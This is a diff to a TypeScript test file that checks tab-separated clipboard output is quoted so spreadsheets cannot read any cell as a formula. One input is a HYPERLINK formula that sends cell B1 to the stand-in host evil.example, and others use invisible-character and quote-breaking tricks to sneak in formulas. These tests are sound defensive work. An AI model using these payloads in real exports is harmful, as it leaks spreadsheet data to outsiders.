@@ -30,7 +30,42 @@ test('a column sorts up, then down, then not at all', () => {
   expect(nextSorting(down, 'amount')).toEqual({ column: 'amount', down: false });
 });
 
-test('what is copied has a line for each row, and nothing that a spreadsheet computes', () => {
-  const copied = tabSeparated([{ name: '=HYPERLINK("x")\tand\nmore', amount: -5 }, ...rows.slice(1, 2)], columns);
-  expect(copied).toBe('Name\tAmount\n\'=HYPERLINK("x") and more\t-5\nOR9\t');
+test('a copied table has one line per row, and every cell is quoted', () => {
+  const copied = tabSeparated([{ name: 'a "b"\tand\nmore', amount: -5 }, ...rows.slice(1, 2)], columns);
+  expect(copied).toBe('"Name"\t"Amount"\n"a ""b"" and more"\t"-5"\n"OR9"\t""');
+});
+
+/** Cells as a spreadsheet reads them from the clipboard. */
+const readCells = (line: string): readonly string[] =>
+  [...line.matchAll(/(?:^|\t)(?:"((?:[^"]|"")*)"|([^\t]*))/g)].map(([, quoted, bare]) => quoted?.replaceAll('""', '"') ?? bare ?? '');
+
+const FORMULA = /^[\s\p{Cc}\p{Default_Ignorable_Code_Point}]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
+
+test('no copied text is a formula, whatever invisible characters stand before it', () => {
+  const invisible = [
+    '',
+    '\u200b',
+    '\u200d',
+    '\u2060',
+    '\ufeff',
+    '\u202e',
+    '\u2066',
+    '\u00a0',
+    '\u00ad',
+    '\u3164',
+    '\ufe0f',
+    ' ',
+    '\t',
+    '\r',
+    '\u0000',
+  ];
+  const starts = ['=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20'];
+  const formulas = invisible.flatMap((first) => invisible.flatMap((second) => starts.map((start) => `${first}${second}${start}1+1`)));
+  const quoted = ['"=1+1"', '"=HYPERLINK(""https://evil.example/?""&B1,""Receipt"")"', '"\n=1+1', '"\t=1+1', '"\t"=1+1'];
+  for (const name of [...formulas, ...quoted]) {
+    const [, line = ''] = tabSeparated([{ name, amount: 1 }], columns).split('\n');
+    const cells = readCells(line);
+    expect([JSON.stringify(name), cells.length, cells[1]]).toEqual([JSON.stringify(name), 2, '1']);
+    expect([JSON.stringify(name), FORMULA.test(cells[0] ?? '')]).toEqual([JSON.stringify(name), false]);
+  }
 });
